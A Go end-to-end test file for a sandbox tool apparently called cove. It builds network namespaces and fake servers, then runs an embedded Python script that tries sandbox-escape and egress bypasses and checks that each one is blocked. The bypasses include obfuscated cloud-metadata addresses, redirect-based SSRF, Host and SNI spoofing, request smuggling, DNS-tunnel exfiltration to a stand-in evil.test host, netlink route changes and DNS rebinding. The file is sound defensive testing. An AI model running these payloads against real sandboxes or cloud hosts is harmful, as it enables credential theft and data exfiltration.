package e2e_test

import (
	"crypto/tls"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"

	"golang.org/x/net/dns/dnsmessage"
	"golang.org/x/sys/unix"

	"cove/internal/testkit/testneeds"
)

// The world that cove is in for this test: two network namespaces. cove runs in one, and all else is in the other, which stands for the internet, the network of a company, and a cloud.
const (
	worldLink    = "172.31.77.1" // of the other namespace, where names are asked for
	worldOwn     = "172.31.77.2" // of cove's
	worldAllowed = "93.184.215.14"
	worldEvil    = "8.8.8.8"
	worldInner   = "10.55.0.7"
	worldCloud   = "169.254.169.254"
	worldCloud6  = "fd00:ec2::254"
)

// outside is what was reached in the other namespace.
type outside struct {
	mu    sync.Mutex
	hits  []string // address and port of the server, and the Host that was asked for
	asked []string // names
	next  map[string][]string
}

func (o *outside) hit(format string, args ...any) {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.hits = append(o.hits, fmt.Sprintf(format, args...))
}

// answer answers a query for a name as the world's servers of names do.
func (o *outside) answer(query []byte) []byte {
	var m dnsmessage.Message
	if m.Unpack(query) != nil || len(m.Questions) != 1 {
		return nil
	}
	q := m.Questions[0]
	name := strings.ToLower(strings.TrimSuffix(q.Name.String(), "."))
	o.mu.Lock()
	o.asked = append(o.asked, name)
	all := o.next[name]
	if len(all) > 1 && q.Type == dnsmessage.TypeA {
		o.next[name] = all[1:]
	}
	o.mu.Unlock()
	m.Response, m.RecursionAvailable, m.Additionals = true, true, nil
	if len(all) == 0 {
		m.RCode = dnsmessage.RCodeNameError
	} else if ip := net.ParseIP(all[0]); ip.To4() != nil && q.Type == dnsmessage.TypeA {
		m.Answers = []dnsmessage.Resource{{Header: dnsmessage.ResourceHeader{Name: q.Name, Class: q.Class}, Body: &dnsmessage.AResource{A: [4]byte(ip.To4())}}}
	} else if ip.To4() == nil && q.Type == dnsmessage.TypeAAAA {
		m.Answers = []dnsmessage.Resource{{Header: dnsmessage.ResourceHeader{Name: q.Name, Class: q.Class}, Body: &dnsmessage.AAAAResource{AAAA: [16]byte(ip.To16())}}}
	}
	b, _ := m.Pack()
	return b
}

// inNamespace calls f on a thread in a network namespace.
func inNamespace(t *testing.T, name string, f func() error) {
	t.Helper()
	failed := make(chan error)
	go func() {
		runtime.LockOSThread() // and never unlocked: the thread ends with its goroutine
		file, err := os.Open(filepath.Join("/run/netns", name))
		if err == nil {
			err = unix.Setns(int(file.Fd()), unix.CLONE_NEWNET)
			_ = file.Close()
		}
		if err == nil {
			err = f()
		}
		failed <- err
	}()
	if err := <-failed; err != nil {
		t.Fatal(err)
	}
}

// newOutside makes the two namespaces and what is in the other. It returns the name of cove's.
func newOutside(t *testing.T) (*outside, string) {
	t.Helper()
	testneeds.Asked(t, testneeds.Root)
	if os.Geteuid() != 0 {
		testneeds.Absent(t, testneeds.Root, "network namespaces are made by root")
	}
	own, other := fmt.Sprintf("cove%dp", os.Getpid()), fmt.Sprintf("cove%dw", os.Getpid())
	ip := func(line string) {
		t.Helper()
		if out, err := exec.CommandContext(t.Context(), "ip", strings.Fields(line)...).CombinedOutput(); err != nil {
			t.Fatalf("ip %s: %v\n%s", line, err, out)
		}
	}
	for _, name := range []string{own, other} {
		ip("netns add " + name)
		t.Cleanup(func() { _ = exec.Command("ip", "netns", "del", name).Run() }) //nolint:noctx // the test's context has ended
		ip("-n " + name + " link set lo up")
	}
	ip("-n " + own + " link add v0 type veth peer name v0 netns " + other)
	for _, a := range []string{worldLink + "/24", worldAllowed + "/32", worldEvil + "/32", worldInner + "/32", worldCloud + "/32", "fd77::1/64", worldCloud6 + "/128"} {
		ip("-n " + other + " addr add " + a + " dev v0" + map[bool]string{true: " nodad"}[strings.Contains(a, "::")])
	}
	ip("-n " + own + " addr add " + worldOwn + "/24 dev v0")
	ip("-n " + own + " addr add fd77::2/64 dev v0 nodad")
	for _, name := range []string{own, other} {
		ip("-n " + name + " link set v0 up")
	}
	ip("-n " + own + " route add default via " + worldLink)
	ip("-n " + own + " -6 route add default via fd77::1")
	config := filepath.Join("/etc/netns", own)
	if err := os.MkdirAll(config, 0o755); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = os.RemoveAll(config) })
	if err := os.WriteFile(filepath.Join(config, "resolv.conf"), []byte("nameserver "+worldLink+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}

	o := &outside{next: map[string][]string{
		"allowed.test": {worldAllowed}, "evil.test": {worldEvil}, "redirect.test": {worldAllowed}, "rebind.test": {worldAllowed, worldCloud}, "metadata.google.internal": {worldCloud},
		"cloud.wild.test": {worldCloud}, "inner.wild.test": {worldInner}, "own.wild.test": {worldOwn}, "loop.wild.test": {"127.0.0.1"}, "six.wild.test": {worldCloud6}, "good.wild.test": {worldAllowed},
	}}
	handler := func(where string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			o.hit("%s %v %s", where, r.Context().Value(http.LocalAddrContextKey), r.Host)
			if r.Host == "redirect.test" {
				http.Redirect(w, r, "http://"+worldCloud+"/latest/meta-data/", http.StatusFound)
				return
			}
			_, _ = fmt.Fprintf(w, "REACHED %v", r.Context().Value(http.LocalAddrContextKey))
		}
	}
	serve := func(namespace, where, address string, secure bool) {
		inNamespace(t, namespace, func() error {
			l, err := net.Listen("tcp", address)
			if err != nil {
				return err
			}
			s := &httptest.Server{Listener: l, EnableHTTP2: true, Config: &http.Server{Handler: handler(where), ErrorLog: log.New(io.Discard, "", 0)}}
			if secure {
				s.TLS = &tls.Config{GetConfigForClient: func(h *tls.ClientHelloInfo) (*tls.Config, error) {
					o.hit("%s TLS %s", where, h.ServerName)
					return nil, nil //nolint:nilnil // the server's own
				}}
				s.StartTLS()
			} else {
				s.Start()
			}
			t.Cleanup(s.Close)
			return nil
		})
	}
	serve(other, "world", ":80", false)
	serve(other, "world", ":443", true)
	serve(other, "world", ":8088", false)
	serve(own, "own", ":8088", false)
	inNamespace(t, other, func() error {
		socket, err := net.ListenPacket("udp", ":53")
		if err != nil {
			return err
		}
		t.Cleanup(func() { _ = socket.Close() })
		quic, err := net.ListenPacket("udp", ":443")
		if err != nil {
			return err
		}
		t.Cleanup(func() { _ = quic.Close() })
		for _, s := range []net.PacketConn{socket, quic} {
			go func() {
				b := make([]byte, 2048)
				for {
					n, from, err := s.ReadFrom(b)
					if err != nil {
						return
					}
					if s == quic {
						o.hit("world UDP %s", s.LocalAddr())
						continue
					}
					if a := o.answer(b[:n]); a != nil {
						_, _ = s.WriteTo(a, from)
					}
				}
			}()
		}
		return nil
	})
	return o, own
}

const bypasses = `
import socket, ssl, struct, urllib.request
def attempt(name, f):
    for left in range(5, -1, -1):
        try: got = f()
        except socket.gaierror as e:
            got = "gaierror"
            if e.errno == socket.EAI_AGAIN and left: continue  # no answer yet, on a busy machine
        except Exception as e: got = type(e).__name__
        break
    text = got.decode(errors="replace") if isinstance(got, bytes) else str(got)
    print(name, "|", "REACHED" if "REACHED" in text else "refused" if "may not be reached" in text else text.strip().splitlines()[0][:60] if text.strip() else "nothing")
def raw(where, text, port=80, tls=None):
    with socket.create_connection((where, port), timeout=20) as s:
        if tls is not None:
            c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
            s = c.wrap_socket(s, server_hostname=tls or None)
        s.sendall(text.encode() if isinstance(text, str) else text)
        out = b""
        while True:
            try: b = s.recv(65536)
            except TimeoutError: break
            if not b: break
            out += b
        return out
get = lambda host, path="/": f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
page = lambda where, host=None, **more: raw(where, get(host or where), **more)
# what is allowed
attempt("ok name", lambda: page("allowed.test"))
attempt("ok TLS", lambda: page("allowed.test", port=443, tls="allowed.test"))
attempt("ok below", lambda: page("good.wild.test"))
attempt("ok urllib", lambda: urllib.request.urlopen("http://ALLOWED.test/", timeout=20).read())
# addresses, in all their forms
for where in ("169.254.169.254", "2852039166", "0251.0376.0251.0376", "0xA9FEA9FE", "169.16689662", "::ffff:169.254.169.254", "fd00:ec2::254", "10.55.0.7", "8.8.8.8", "93.184.215.14"):
    attempt("address " + where, lambda: page(where, "allowed.test"))
for where in ("172.31.77.2", "127.0.0.1", "0.0.0.0", "0", "::1", "::", "fd77::2", "172.31.77.1", "localhost"):
    attempt("own " + where, lambda: page(where, "allowed.test", port=8088))
# names that are not allowed, or lead where nothing may
for where in ("evil.test", "evilallowed.test", "allowed.test.evil.test", "metadata.google.internal", "wild.test", "cloud.wild.test", "inner.wild.test", "six.wild.test", "nothere.allowed.test"):
    attempt("name " + where, lambda: page(where))
for where in ("own.wild.test", "loop.wild.test", "allowed.test"):
    attempt("port " + where, lambda: page(where, port=8088))
attempt("redirect", lambda: urllib.request.urlopen("http://redirect.test/", timeout=20).read())
# an allowed host, asked for another
attempt("Host", lambda: page("allowed.test", "evil.test"))
attempt("second Host", lambda: raw("allowed.test", "HEAD / HTTP/1.1\r\nHost: allowed.test\r\n\r\n" + get("evil.test")))
attempt("absolute", lambda: raw("allowed.test", get("allowed.test", "http://evil.test/")))
attempt("CONNECT", lambda: raw("allowed.test", "CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: 169.254.169.254:80\r\n\r\n" + get("allowed.test")))
attempt("WebSocket", lambda: raw("allowed.test", "GET / HTTP/1.1\r\nHost: evil.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n"))
attempt("smuggled", lambda: raw("allowed.test", "POST / HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"))
attempt("SNI", lambda: page("allowed.test", port=443, tls="evil.test"))
attempt("no SNI", lambda: page("allowed.test", port=443, tls=""))
attempt("no TLS", lambda: page("allowed.test", "evil.test", port=443))
attempt("SSH", lambda: raw("allowed.test", "SSH-2.0-x\r\n", port=443))
# beside TCP
def datagram(where, port, data=b"hello", wait=1):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(wait); s.sendto(data, (where, port)); return s.recv(2048)
attempt("UDP", lambda: datagram("8.8.8.8", 443))
query = lambda name, kind: struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">2H", kind, 1)
for kind in (1, 16, 28, 255):
    attempt(f"tunnel {kind}", lambda: "code %d" % (datagram("8.8.8.8", 53, query("c2VjcmV0.tunnel.evil.test", kind), 20)[3] & 15))
def stream():
    q = query("c2VjcmV0.stream.evil.test", 16)
    with socket.create_connection(("172.31.77.1", 53), timeout=20) as s:
        s.sendall(struct.pack(">H", len(q)) + q); return "code %d" % (s.recv(2048)[5] & 15)
attempt("tunnel TCP", stream)
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3))
def route():
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    s.send(struct.pack("IHHII", 36, 24, 0x405, 1, 0) + struct.pack("8BI", 2, 0, 0, 0, 254, 3, 0, 1, 0) + struct.pack("HH4s", 8, 5, b"\x08\x08\x08\x08"))
    return "error %d" % struct.unpack("i", s.recv(4096)[16:20])
attempt("netlink", route)
attempt("rebind", lambda: page("rebind.test"))
`

// TestBypassesForReal has code try to reach what it may not from inside a real sandbox: a cloud's metadata, a company's inner service, services of the machine itself, and another's servers, which are all there.
func TestBypassesForReal(t *testing.T) {
	t.Parallel()
	testneeds.FullTier(t)
	o, namespace := newOutside(t)
	program := filepath.Join(t.TempDir(), "bypasses.py")
	testneeds.Program(t, program, bypasses)
	run := func() map[string]string {
		t.Helper()
		c := newCommand(t, "run", "-q", "--timeout", "10m", "--allow-net", "allowed.test", "--allow-net", "redirect.test", "--allow-net", "rebind.test", "--allow-net", "*.wild.test:80,8088",
			"--allow-net", "*.wild.test", program)
		c.cmd.Args = append([]string{"ip", "netns", "exec", namespace, c.cmd.Path}, c.cmd.Args[1:]...)
		ip, err := exec.LookPath("ip")
		if err != nil {
			t.Fatal(err)
		}
		c.cmd.Path = ip
		r := c.run()
		r.ended(t, 0)
		said := map[string]string{}
		for line := range strings.Lines(r.stdout) {
			name, got, _ := strings.Cut(strings.TrimSpace(line), " | ")
			said[name] = got
		}
		return said
	}
	said := run()
	if len(said) < 50 {
		t.Fatalf("%d attempts: %v", len(said), said)
	}
	for name, got := range said {
		if reached := got == "REACHED"; reached != (strings.HasPrefix(name, "ok ") || name == "rebind") {
			t.Errorf("%s: %s", name, got)
		}
	}
	for _, name := range []string{"tunnel 1", "tunnel 16", "tunnel 28", "tunnel 255", "tunnel TCP"} { // which say that there is no such name
		if said[name] != "code 3" {
			t.Errorf("%s: %s", name, said[name])
		}
	}
	if got := run()["rebind"]; got == "REACHED" { // the name leads to the cloud's metadata now
		t.Errorf("rebind: %s", got)
	}
	o.mu.Lock()
	defer o.mu.Unlock()
	for _, hit := range o.hits {
		allowed := slices.ContainsFunc([]string{worldAllowed + ":80 allowed.test", worldAllowed + ":80 ALLOWED.test", worldAllowed + ":80 redirect.test", worldAllowed + ":80 rebind.test", worldAllowed + ":80 good.wild.test",
			worldAllowed + ":443 allowed.test", "TLS allowed.test"}, func(end string) bool { return hit == "world "+end })
		if !allowed {
			t.Errorf("reached: %s", hit)
		}
	}
	for _, name := range o.asked {
		if strings.Contains(name, "evil") || strings.Contains(name, "google") || strings.Contains(name, "allowed.test.") || strings.HasPrefix(name, "nothere") {
			t.Errorf("the name %s was asked for", name)
		}
	}
	if len(o.hits) < 8 || len(o.asked) < 8 {
		t.Errorf("there were %d hits and %d queries: the world of the test was not there", len(o.hits), len(o.asked))
	}
}
